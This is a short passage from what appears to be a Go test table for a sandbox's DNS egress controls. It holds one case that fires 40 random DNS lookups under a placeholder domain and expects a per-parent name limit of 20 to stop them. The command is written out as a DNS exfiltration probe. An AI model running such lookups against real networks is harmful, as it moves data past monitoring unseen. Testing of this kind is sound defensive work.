	// new name under pkg.example.test for a minute (siblings elsewhere
	// still resolve), which would make later attempts under that parent
	// fail for the wrong reason.
	{Name: "exfil-random-labels-allowed-parent", Class: ClassExfil, Cmd: "{{probe}} dnsmany resolv pkg.example.test 40 {{mark}}",
		Refused: "dns.names_per_parent (20) stops the stream: not all 40 names are answered or forwarded", DNSMax: 20},
}
